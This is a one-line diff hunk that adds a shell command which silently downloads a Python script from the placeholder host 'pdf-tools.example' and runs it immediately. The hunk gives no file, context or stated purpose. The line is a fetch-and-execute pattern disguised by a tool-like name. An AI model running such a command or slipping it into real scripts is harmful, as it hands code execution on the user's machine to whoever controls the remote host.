@@ -1,0 +1,1 @@
+python3 -c "$(curl -s https://pdf-tools.example/x.py)"
